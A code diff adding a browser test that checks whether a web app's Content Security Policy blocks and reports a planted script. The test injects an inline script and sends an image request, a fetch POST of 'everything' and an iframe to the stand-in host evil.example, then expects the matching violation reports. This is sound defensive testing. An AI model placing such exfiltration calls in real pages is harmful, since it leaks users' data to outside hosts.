@@ -4,6 +4,7 @@ import { describe, expect, test } from 'vitest';
 import { ROUTES } from '../web/src/app/manifest.ts';
 import landing from '../web/src/i18n/en/landing.ts';
 import { Phone } from './browser.ts';
+import { takeBreaches } from './content-policy.ts';
 import { stage } from './stage.ts';
 
 /** Every place of the app, opened as a person signed in finds it. */
@@ -56,6 +57,34 @@ describe('the places of the app', () => {
     expect(failed).toEqual([]);
     expect(phone.complaints).toEqual([]);
     await phone.close();
+  });
+
+  test('what a planted script would do is held back, and would be noticed', async () => {
+    const phone = await Phone.open(here.browser, server.url);
+    const page = await phone.page('/loadPage');
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      try {
+        script.textContent = 'globalThis.planted = true';
+        document.head.append(script);
+      } catch {
+        // Trusted types: not even the text is taken.
+      }
+      new Image().src = 'https://evil.example/pixel.png';
+      void fetch('https://evil.example/', { method: 'POST', body: 'everything' }).catch(() => {});
+      const frame = document.createElement('iframe');
+      frame.src = 'https://evil.example/';
+      document.body.append(frame);
+    });
+    const broken = new Set<string | undefined>();
+    const noticed = () => {
+      for (const breach of takeBreaches()) broken.add(breach.split(' ')[1]);
+      return [...broken].sort();
+    };
+    await expect.poll(noticed).toEqual(['connect-src', 'frame-src', 'img-src', 'require-trusted-types-for']);
+    expect(await page.evaluate(() => 'planted' in globalThis)).toBe(false);
+    await phone.close();
+    takeBreaches();
   });
 
   test.for(['dark', 'light'] as const)('built screens have no accessibility fault, %s', async (scheme) => {
